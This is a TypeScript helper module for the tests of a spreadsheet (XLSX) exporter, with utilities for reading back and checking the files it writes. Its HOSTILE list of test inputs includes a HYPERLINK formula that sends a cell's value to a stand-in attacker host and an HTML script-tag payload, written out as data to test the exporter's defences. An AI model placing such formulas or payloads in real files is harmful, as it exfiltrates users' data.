/** Shared by the export tests: temporary folders, row sources, and independent reading of what was written. */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SaxesParser } from 'saxes';
import XLSX from 'xlsx';

export function tempDir(t: { after: (fn: () => void) => void }): string {
  const dir = mkdtempSync(join(tmpdir(), 'wolkvox-export-test-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

/** Rows as the store would hand them over: async batches. */
export async function* inBatches<T>(rows: T[], size = 7): AsyncGenerator<T[]> {
  for (let i = 0; i < rows.length; i += size) yield rows.slice(i, i + size);
}

/** Every file in `dir` (hidden ones too), to prove no temporary file was left behind. */
export const filesIn = (dir: string): string[] => readdirSync(dir).sort();

/** The workbook as SheetJS (an independent reader) sees it, with the raw package parts kept. */
export function readWorkbook(path: string): XLSX.WorkBook {
  return XLSX.read(readFileSync(path), { type: 'buffer', cellNF: true, cellStyles: true, bookFiles: true });
}

/** Raw text of one package part, as SheetJS unzipped it. */
export function partText(workbook: XLSX.WorkBook, name: string): string {
  const files = (workbook as unknown as { files: Record<string, { content?: Uint8Array } | undefined> }).files;
  const entry = files[name];
  if (!entry?.content) throw new Error(`no part ${name}`);
  return Buffer.from(entry.content).toString('utf8');
}

export function partNames(workbook: XLSX.WorkBook): string[] {
  // SheetJS lists a root entry ('') and a marker of its own beside the package's parts.
  return ((workbook as unknown as { keys: string[] }).keys ?? []).filter((k) => k !== '' && !k.startsWith('\u0001'));
}

/** Throws unless `xml` is well-formed XML 1.0 with namespaces (saxes is a strict, conforming parser). */
export function assertWellFormed(xml: string, name: string): void {
  const parser = new SaxesParser({ xmlns: true });
  parser.on('error', (error) => {
    throw new Error(`${name}: ${error.message}`);
  });
  parser.write(xml).close();
}

/** Info-ZIP's own test of the archive (CRC of every entry), when the machine has it. */
export function unzipTest(path: string): { available: boolean; ok: boolean; output: string } {
  const r = spawnSync('unzip', ['-tq', path], { encoding: 'utf8' });
  if (r.error) return { available: false, ok: false, output: '' };
  return { available: true, ok: r.status === 0, output: `${r.stdout}${r.stderr}` };
}

/** A sheet's cells by address, e.g. cell(ws, 'B2'). */
export function cell(sheet: XLSX.WorkSheet, address: string): XLSX.CellObject | undefined {
  return sheet[address] as XLSX.CellObject | undefined;
}

/** The wall clock a date cell shows: SheetJS decodes the serial on its own (SSF). */
export function serialToWallClock(serial: number): string {
  const d = XLSX.SSF.parse_date_code(serial);
  const p = (n: number, w = 2) => String(n).padStart(w, '0');
  return `${p(d.y, 4)}-${p(d.m)}-${p(d.d)} ${p(d.H)}:${p(d.M)}:${p(d.S)}`;
}

export const HOSTILE: Array<{ label: string; input: string; expected: string }> = [
  { label: 'ordinary', input: 'Buenos días, ¿en qué le puedo ayudar?', expected: 'Buenos días, ¿en qué le puedo ayudar?' },
  { label: 'controls', input: 'a\u0000b\u0001c\u0008d\u000Be\u000Cf\u000Eg\u001Fh', expected: 'abcdefgh' },
  { label: 'tab, LF, CR kept', input: 'one\ttwo\nthree\r\nfour\rfive', expected: 'one\ttwo\nthree\r\nfour\rfive' },
  { label: 'lone surrogates', input: 'x\uD800y\uDFFFz\uDBFF', expected: 'xyz' },
  { label: 'U+FFFE/U+FFFF', input: 'p\uFFFEq\uFFFFr', expected: 'pqr' },
  { label: 'hyperlink formula', input: '=HYPERLINK("http://evil.example/?x="&A1,"click")', expected: '=HYPERLINK("http://evil.example/?x="&A1,"click")' },
  { label: 'plus', input: '+1', expected: '+1' },
  { label: 'minus', input: '-2+3', expected: '-2+3' },
  { label: 'at', input: '@SUM(A1:A9)', expected: '@SUM(A1:A9)' },
  { label: 'leading tab', input: '\t=1+1', expected: '\t=1+1' },
  { label: 'leading CR', input: '\r=1+1', expected: '\r=1+1' },
  { label: 'emoji', input: 'Gracias 👍🏽 familia 👨‍👩‍👧 bandera 🇨🇴 𠜎', expected: 'Gracias 👍🏽 familia 👨‍👩‍👧 bandera 🇨🇴 𠜎' },
  { label: 'arabic', input: 'مرحبا، أحتاج مساعدة في طلبي رقم 123', expected: 'مرحبا، أحتاج مساعدة في طلبي رقم 123' },
  { label: 'hebrew with marks', input: '\u200Fשלום עולם (order 55)\u200E', expected: '\u200Fשלום עולם (order 55)\u200E' },
  { label: 'html', input: '<script>alert("x")</script> &amp; <b>bold</b> ]]>', expected: '<script>alert("x")</script> &amp; <b>bold</b> ]]>' },
  { label: 'OOXML escape look-alike', input: 'id _x0041_ and _x00e9_', expected: 'id _x0041_ and _x00e9_' },
  { label: 'surrounding spaces', input: '  padded  ', expected: '  padded  ' },
  { label: 'quotes and commas', input: 'He said "yes", then left', expected: 'He said "yes", then left' },
];
